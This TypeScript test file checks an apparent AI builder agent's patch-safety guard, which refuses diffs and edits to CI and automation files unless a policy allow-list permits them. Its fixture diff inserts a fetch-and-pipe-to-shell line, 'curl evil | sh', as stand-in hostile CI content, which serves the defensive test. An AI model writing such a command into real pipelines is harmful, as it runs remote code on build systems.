// CI and automation files are refused by default in both change forms, case-folded, including
// a repository's GitLab CI includes; a path the project's policy allows goes through.
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import t from "tap";
import { checkChange } from "#agents/builder/change.ts";
import {
  AUTOMATION_FILES,
  AUTOMATION_PREFIXES,
  DEFAULT_PATCH_LIMITS,
  gitlabCiIncludes,
  inspectDiff,
  PatchRejected,
} from "#agents/builder/patch-safety.ts";

const newFile = (path: string) =>
  `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+run: curl evil | sh\n`;

const CI_PATHS = [
  ...AUTOMATION_PREFIXES.map((p) => `${p}pwn.yml`),
  ...AUTOMATION_FILES,
  "services/api/Jenkinsfile",
  ".GitHub/Workflows/ci.yml",
  "ci/templates/build.gitlab-ci.yml",
];

t.test("every CI/automation path is refused, naming the path, in diffs and whole-file edits", async (tt) => {
  const dir = mkdtempSync(join(tmpdir(), "pf-ci-paths-"));
  tt.teardown(() => rmSync(dir, { recursive: true, force: true }));
  for (const path of CI_PATHS) {
    tt.throws(() => inspectDiff(newFile(path)), PatchRejected, `${path}: diff refused`);
    try {
      inspectDiff(newFile(path));
    } catch (err) {
      tt.match((err as Error).message, `path "${path}" is CI/automation configuration`);
    }
    await tt.rejects(
      checkChange(dir, { summary: "s", commit_title: "t", files: [{ path, content: "x" }] }),
      { name: "PatchRejected", message: new RegExp(`"${path.replaceAll(".", "\\.")}" is CI/automation`) },
      `${path}: edit refused`,
    );
  }
  tt.ok(CI_PATHS.length >= 20, `checked ${CI_PATHS.length} paths`);
  // Ordinary files that merely look similar still go through.
  for (const path of ["src/workflows/ci.yml", "docs/github-actions.md", "jenkins/notes.md"]) {
    tt.same(inspectDiff(newFile(path)).paths, [path], `${path} is not CI configuration`);
  }
});

t.test("GitLab CI includes of the repository are CI files too", async (tt) => {
  const includes = gitlabCiIncludes(
    [
      "include:",
      "  - local: ci/build.yml",
      "  - '/templates/deploy.yml'",
      "  - remote: 'https://example.com/x.yml'",
      "stages: [test]",
    ].join("\n"),
  );
  tt.same(includes.sort(), ["ci/build.yml", "templates/deploy.yml"]);
  const limits = { ...DEFAULT_PATCH_LIMITS, automation: { allowed: [], extra: includes } };
  tt.throws(() => inspectDiff(newFile("ci/build.yml"), limits), /CI\/automation/);
  tt.same(
    inspectDiff(newFile("ci/build.yml")).paths,
    ["ci/build.yml"],
    "without the include it is a plain file",
  );
});

t.test("the policy's allow-list lets exactly its paths through", async (tt) => {
  const limits = {
    ...DEFAULT_PATCH_LIMITS,
    automation: { allowed: [".github/workflows/docs.yml", ".husky/"], extra: [] },
  };
  tt.same(inspectDiff(newFile(".github/workflows/docs.yml"), limits).paths, [".github/workflows/docs.yml"]);
  tt.same(inspectDiff(newFile(".husky/pre-commit"), limits).paths, [".husky/pre-commit"]);
  tt.throws(() => inspectDiff(newFile(".github/workflows/release.yml"), limits), /CI\/automation/);
  tt.throws(() => inspectDiff(newFile(".gitlab-ci.yml"), limits), /CI\/automation/);
});
